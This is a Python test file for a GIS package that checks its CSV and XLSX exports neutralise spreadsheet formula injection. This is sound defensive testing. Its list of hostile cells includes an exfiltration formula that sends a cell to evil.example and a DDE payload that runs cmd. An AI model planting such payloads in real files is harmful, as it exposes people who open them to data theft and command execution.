"""No text from data becomes a spreadsheet formula (issue 12 item 4): every CSV ecogis writes is checked.

OWASP CSV injection: a text cell starting with ``= + - @`` (also after leading
spaces or a TAB) or with TAB / CR gets a leading apostrophe; numbers stay
numbers.  XLSX text cells are stored as strings, never as formulas.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely

from ecogis.cli import main
from ecogis.export.cells import defuse_text, undefuse_text

REPO = Path(__file__).resolve().parent.parent
GENHE = REPO / "layers" / "sample" / "genhe.gpkg"

#: Hostile text cells (each must come out defused).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "\t\t@x", "=cmd|' /C calc'!A0",
    "　=1+1",  # ideographic space
]


def _formula_like(cell: str) -> bool:
    """What a spreadsheet would evaluate: the OWASP triggers at the start (after blanks), not a plain number."""
    if cell[:1] in ("\t", "\r"):
        return True
    head = cell.lstrip(" \t\r\n\u3000")
    return bool(head) and head[0] in "=+-@" and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)


def _check_csv(path: Path) -> int:
    """Every cell of ``path`` is safe; return how many cells were looked at."""
    n = 0
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for i, row in enumerate(csv.reader(fh), start=1):
            for j, cell in enumerate(row, start=1):
                n += 1
                assert not _formula_like(cell), f"{path.name} row {i} col {j}: live formula {cell!r}"
    return n


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_defused_and_read_back(text):
    out = defuse_text(text)
    assert out == "'" + text
    assert not _formula_like(out)
    assert undefuse_text(out) == text


@pytest.mark.parametrize("text", ["-116.5", "+3", "-1e-5", "42", "名称", "a=b", "2026-11-20", "", "'=quoted"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert defuse_text(text) == text


@pytest.fixture(scope="module")
def hostile_sites(tmp_path_factory):
    root = tmp_path_factory.mktemp("csvinj")
    n = len(HOSTILE)
    g = gpd.GeoDataFrame({
        "site_id": [f"S{i}" for i in range(n)],
        "name": HOSTILE,
        "note": list(reversed(HOSTILE)),
        "lon": [-116.5 - i for i in range(n)],          # a numeric column of negative numbers
        "offset": [-3] * n,
    }, geometry=[shapely.box(121.5 + 0.01 * i, 50.7, 121.505 + 0.01 * i, 50.705) for i in range(n)], crs=4490)
    src = root / "sites.geojson"
    g.to_file(src, driver="GeoJSON")
    return root, src


def test_convert_to_csv_defuses_text_and_keeps_negative_numbers(hostile_sites, tmp_path):
    _, src = hostile_sites
    out = tmp_path / "out.csv"
    assert main(["convert", str(src), str(out)]) == 0
    assert _check_csv(out) > 0
    df = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(df["name"]) == ["'" + t for t in HOSTILE]      # literal text, after the apostrophe
    assert list(df["lon"]) == [str(-116.5 - i) for i in range(len(HOSTILE))]  # numbers: no apostrophe
    assert set(df["offset"]) == {"-3"}
    assert all(w.startswith("POLYGON") for w in df["wkt"])


def test_every_csv_of_the_patrol_loop_is_safe(hostile_sites, tmp_path):
    """The field package (checklist.csv) with hostile target names, read back into the ledger unchanged."""
    from ecogis.patrol.fieldpkg import write_field_package
    from ecogis.patrol.ledger import update_ledger
    from ecogis.patrol.route import plan_route
    from ecogis.workspace import open_workspace

    n = len(HOSTILE)
    t = gpd.GeoDataFrame({
        "target_id": [f"T{i:02d}" for i in range(n)], "source": ["clue"] * n, "name": HOSTILE,
        "priority": [50.0] * n, "check": list(reversed(HOSTILE)), "basis": ["@basis"] * n, "detail": HOSTILE,
        "rank": list(range(1, n + 1)),
    }, geometry=shapely.points([(121.52 + 0.01 * i, 50.78 + 0.005 * i) for i in range(n)]), crs=4490)
    plan = plan_route(t, (121.52, 50.78), days=1, hours_per_day=10, speed_kmh=40, visit_minutes=5)
    out = tmp_path / "pkg"
    write_field_package(t, plan, out, title="=1+1 巡查")
    csvs = sorted(out.rglob("*.csv"))
    assert csvs
    for p in csvs:
        assert _check_csv(p) > 0
    # XLSX: text cells are strings, never formulas, and keep the literal text
    wb = openpyxl.load_workbook(out / "checklist.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert set(HOSTILE) & {c.value for c in cells}
    # filled in and read back: the ledger holds the original text, not the apostrophe
    df = pd.read_csv(out / "checklist.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    df["核查结果(属实/不属实/整改中/已销号)"] = "属实"
    df["核查日期(YYYY-MM-DD)"] = "2026-11-20"
    df["核查人"] = "=inspector"
    df["备注"] = "\t=1+1"
    filled = tmp_path / "filled.csv"
    from ecogis.export.cells import write_csv

    write_csv(df, filled)
    assert _check_csv(filled) > 0
    ws = tmp_path / "ws.gpkg"
    import shutil

    shutil.copy(GENHE, ws)
    upd = update_ledger(ws, filled)
    assert upd.added == len(df)
    led = open_workspace(ws).ledger()
    assert set(led["name"]) <= {h.strip() for h in HOSTILE}
    assert set(led["inspector"]) == {"=inspector"}


def test_every_csv_the_demo_writes_is_safe(tmp_path):
    """The patrol part of ``ecogis demo`` (checklist.csv, checklist_filled.csv, ledger_open.csv)."""
    from ecogis.patrol.demo import demo

    demo(tmp_path, REPO / "layers" / "sample")
    csvs = sorted(tmp_path.rglob("*.csv"))
    assert len(csvs) >= 3
    assert sum(_check_csv(p) for p in csvs) > 0


def test_no_csv_writer_bypasses_the_helper():
    """Static guard: every CSV the package writes goes through ecogis.export.cells."""
    offenders = []
    for p in (REPO / "ecogis").rglob("*.py"):
        if p.name == "cells.py":
            continue
        text = p.read_text(encoding="utf-8")
        for pat in (r"\.to_csv\(", r"csv\.writer\(", r"csv\.DictWriter\(", r'driver="CSV"'):
            # a temporary CSV that only feeds GDAL (never a user's output) says so on its line
            if any(re.search(pat, ln) and "internal CSV" not in ln for ln in text.splitlines()):
                offenders.append(f"{p.relative_to(REPO)}: {pat}")
    assert offenders == []


def test_vectorised_defusing_is_the_same_as_cell_by_cell():
    """``defuse_strings`` (the XLSX writer's, on Arrow arrays) gives what ``defuse_text`` gives, cell by cell."""
    import pyarrow as pa

    from ecogis.export.cells import defuse_cell, defuse_strings

    cells = HOSTILE + ["-116.5", "+3", "-1e-5", " -3 ", "-", "=", "-٣", "\n=x", "\tabc", "名称", "a=b", "", "'=quoted",
                       None, "\u3000-", " \u3000@x"]
    assert defuse_strings(pa.array(cells)).to_pylist() == [defuse_cell(c) for c in cells]
    assert defuse_strings(pa.chunked_array([["=1", None], ["ok"]])).to_pylist() == ["'=1", None, "ok"]
